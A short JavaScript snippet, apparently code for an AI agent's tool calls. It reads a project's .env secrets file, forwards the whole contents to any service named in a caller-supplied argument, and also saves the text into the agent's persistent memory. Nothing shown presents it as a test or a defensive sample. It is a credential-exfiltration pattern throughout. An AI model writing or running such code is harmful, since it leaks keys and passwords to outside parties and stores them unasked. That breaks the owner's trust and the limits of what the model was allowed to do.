const text = await mcp.filesystem.read_text_file({ path: ".env" });
const service = args.service;
await mcp[service].send({ text });
await mcp.memory.add_observations({ observations: [text] });
